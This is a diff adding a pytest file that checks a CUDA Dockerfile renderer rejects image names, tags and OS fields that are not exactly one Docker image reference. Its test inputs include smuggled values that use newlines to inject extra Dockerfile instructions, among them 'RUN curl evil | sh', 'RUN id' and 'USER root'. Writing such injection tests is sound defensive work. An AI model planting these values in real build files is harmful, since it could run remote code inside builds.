@@ -1,0 +1,82 @@
+"""An overlay's image rows reach a FROM line: every field is checked against Docker's grammar at
+load time, and the renderer refuses any FROM value that is not exactly one image reference."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+from cudaenv.errors import MatrixError, UserError
+from cudaenv.matrix import load_matrix
+from cudaenv.references import is_reference
+from cudaenv.render import BuildSettings, build_context
+
+ROW = {"cuda": "12.4.1", "repository": "nvidia/cuda", "tag_version": "12.4.1", "os": ["ubuntu22.04"]}
+
+
+def overlay(tmp_path, **fields) -> None:
+    row = dict(ROW, **fields)
+    lines = ["[[image]]"] + [f"{k} = {json.dumps(v)}" for k, v in row.items()]
+    lines.append('source = "overlay test ; read 2026-11-24"')
+    (tmp_path / "images.toml").write_text("\n".join(lines) + "\n")
+
+
+@pytest.mark.parametrize("field,value", [
+    ("repository", "nvidia/cuda\nRUN curl evil | sh"),
+    ("repository", "nvidia/cuda latest"),
+    ("repository", "NVIDIA/CUDA"),
+    ("tag_version", "12.4.1\nRUN id"),
+    ("tag_version", "12.4.1 AS x"),
+    ("os", ["ubuntu22.04\nUSER root"]),
+    ("os", ["ubuntu 22.04"]),
+])
+def test_an_overlay_image_row_that_could_split_a_from_line_is_refused(tmp_path, field, value):
+    overlay(tmp_path, **{field: value})
+    with pytest.raises(MatrixError) as caught:
+        load_matrix(overlays=[tmp_path], use_cache=False)
+    message = str(caught.value)
+    assert "images.toml" in message and field in message and "\n" not in message
+
+
+def test_a_well_formed_overlay_image_row_loads(tmp_path):
+    overlay(tmp_path, tag_version="12.4.1")
+    matrix = load_matrix(overlays=[tmp_path], use_cache=False)
+    assert any(image.repository == "nvidia/cuda" for image in matrix.images_for("12.4"))
+
+
+@pytest.mark.parametrize("reference", [
+    "nvidia/cuda:12.4.1-cudnn-runtime-ubuntu22.04", "127.0.0.1:5000/library/python:3.11-slim",
+    "ghcr.io/astral-sh/uv:0.5.1", "localhost/x@sha256:" + "ab" * 32,
+])
+def test_real_references_are_references(reference):
+    assert is_reference(reference)
+
+
+@pytest.mark.parametrize("text", ["a\nb", "a b", "a:b:c", "", "x" * 256, "Upper/case", "a/b:" + "t" * 129, "٥/x"])
+def test_anything_else_is_not_one_reference(text):
+    assert not is_reference(text)
+
+
+@pytest.mark.parametrize("hostile", ["nvidia/cuda:12.4.1-runtime-ubuntu22.04\nRUN id", "nvidia/cuda:12.4.1 AS x"])
+def test_the_renderer_refuses_a_from_value_that_is_not_one_reference(hostile):
+    """A hand-edited lock or a stack from anywhere else: the last line of defence before FROM."""
+    from dataclasses import replace
+
+    from cudaenv.resolver.model import Constraints, Host
+    from cudaenv.resolver.resolve import resolve
+
+    matrix = load_matrix(overlays=[])
+    stack = resolve(matrix, Constraints(cuda=None), Host(driver="550.54.15")).stack
+    assert build_context(stack, BuildSettings(project="p"))["base_image"] == stack.base_image
+    with pytest.raises(UserError, match="the stack's base image: expected one image reference"):
+        build_context(replace(stack, base_image=hostile), BuildSettings(project="p"))
+
+
+def test_a_published_base_must_be_one_reference_too():
+    from cudaenv.resolver.model import Constraints, Host
+    from cudaenv.resolver.resolve import resolve
+
+    stack = resolve(load_matrix(overlays=[]), Constraints(cuda=None), Host(driver="550.54.15")).stack
+    with pytest.raises(UserError, match="the published base image"):
+        build_context(stack, BuildSettings(project="p", published_base="reg.example/base:x\nRUN id"))
